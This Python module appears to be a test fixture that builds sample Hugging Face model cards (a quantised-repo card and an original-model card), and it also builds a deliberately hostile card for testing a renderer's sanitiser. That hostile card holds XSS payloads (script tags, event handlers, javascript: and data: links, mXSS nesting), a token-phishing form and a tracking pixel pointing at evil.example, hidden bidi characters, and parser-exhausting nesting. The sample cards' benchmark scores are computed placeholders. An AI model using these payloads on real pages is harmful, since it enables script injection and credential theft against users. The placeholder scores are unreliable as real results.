"""Model cards as people write them: front matter, tables, code, pictures, links; and a bad one."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from typing import Final


def front_matter(data: Mapping[str, object]) -> str:
    """Write the YAML that stands before a card."""
    lines = ["---"]
    for key, value in data.items():
        if isinstance(value, list | tuple):
            lines += [f"{key}:", *(f"- {item}" for item in value)]
        else:
            lines.append(f"{key}: {value}")
    return "\n".join([*lines, "---", ""])


def quantised(
    repo: str, original: str, data: Mapping[str, object], files: Sequence[tuple[str, str, int]]
) -> str:
    """Write the card of a repo of quantisations; a file is path, quantisation and bytes."""
    name = original.rpartition("/")[2]
    rows = "\n".join(
        f"| [{path}](https://huggingface.co/{repo}/blob/main/{path}) | {kind} |"
        f" {size / 1e9:.2f}GB | {'Recommended' if kind == 'Q4_K_M' else 'Usable'}, *see below*. |"
        for path, kind, size in files
    )
    return f"""{front_matter(data)}
# Quantizations of {name}

<img src="https://huggingface.co/datasets/huggingface/brand-assets/logo.png" width="120"/>

Original model: <https://huggingface.co/{original}>, quantised with llama.cpp release
[b6500](https://github.com/ggml-org/llama.cpp/releases/tag/b6500).

## Prompt format

```
<|system|>{{system_prompt}}<|user|>{{prompt}}<|assistant|>
```

## Download a file (not the whole branch)

| Filename | Quant type | File Size | Description |
| -------- | ---------- | --------: | ----------- |
{rows}

<details>
  <summary>Which file should I choose?</summary>

Aim for a file **1–2 GB smaller** than your GPU's memory. `Q4_K_M` is a good default; _I-quants_
are slower on a CPU[^1].

</details>

1. Install the client:
   ```bash
   pip install -U "huggingface_hub[cli]"
   hf download {repo} --include "{files[0][0] if files else "*.gguf"}" --local-dir ./
   ```
2. Run it:

```python
from llama_cpp import Llama

llm = Llama("{files[0][0] if files else "model.gguf"}", n_ctx=8192)
print(llm("1 + 1 =", max_tokens=8))  # 2 < 3 & 4 > 3
```

![Perplexity by size](./perplexity.png)

> Thanks to everybody who tested. ~~Q4_0_8_8~~ is gone.

- [x] imatrix
- [ ] vision

[^1]: See the [feature matrix](https://github.com/ggml-org/llama.cpp/wiki/Feature-matrix).
"""


def original(repo: str, data: Mapping[str, object], parameters: int, context: int) -> str:
    """Write the card of a model by those who trained it."""
    name = repo.rpartition("/")[2]
    return f"""{front_matter(data)}
# {name}

## Model Overview

- **Parameters:** {parameters / 1e9:.2f}B
- **Context length:** {context:,} tokens
- **License:** {data["license"]}

## Evaluation

| Benchmark | Metric | {name} |
|:----------|:------:|-------:|
| MMLU | 5-shot | {40 + parameters % 40}.1 |
| GSM8K | 8-shot, CoT | {30 + parameters % 50}.7 |
| HumanEval | pass@1 | {20 + parameters % 60}.4 |

## Quickstart

```python
from transformers import AutoModelForCausalLM, AutoTokenizer

model = AutoModelForCausalLM.from_pretrained("{repo}", torch_dtype="auto", device_map="auto")
tokenizer = AutoTokenizer.from_pretrained("{repo}")
```

## Limitations

The model may state what is not so. See our [report](https://arxiv.org/abs/2407.21783) and the
[discussion](https://huggingface.co/{repo}/discussions).
"""


HOSTILE: Final = (
    """---
license: "<script>globalThis.pwned = 'license'</script>"
tags:
- "<img src=x onerror=globalThis.pwned=1>"
---
# Good <script>globalThis.pwned = 'script'</script> model

<img src=x onerror="globalThis.pwned = 'onerror'">
<svg onload="globalThis.pwned = 'svg'"><animate onbegin="globalThis.pwned = 'begin'"/></svg>
<iframe srcdoc="<script>parent.pwned = 'srcdoc'</script>"></iframe>
<a href="javascript:globalThis.pwned = 'href'">a link</a>
<a href="JaVa&#09;sCript:globalThis.pwned = 'tab'">another</a>
<a href="data:text/html,<script>opener.pwned = 'data'</script>">a third</a>
<form action="https://evil.example/"><input name="token"><button>Log in</button></form>
<style>* { display: none !important }</style>
<div style="position: fixed; inset: 0; z-index: 99999">over everything</div>
<details open ontoggle="globalThis.pwned = 'toggle'"><summary>more</summary></details>
<math><mtext><table><mglyph><style><img src=x onerror="globalThis.pwned = 'mxss'"></style></table>

[a link of Markdown](javascript:globalThis.pwned='markdown')
[of another kind](vbscript:pwned)
![a picture](https://evil.example/tracker.png)
[ref]: javascript:globalThis.pwned='reference'
[by reference][ref]
<https://user:secret@evil.example/>

Text that \u202eruns backwards\u202c, \u200bhides\u2060, and rings\u0007.

```html
<script>globalThis.pwned = 'code'</script>
```

"""
    + "> " * 500
    + "deep\n\n"
    + "[" * 5000
    + "\n\n"
    + "*a **b " * 2000
    + "\n"
)
"""A card that tries what cards have been caught at; `globalThis.pwned` tells that it worked."""
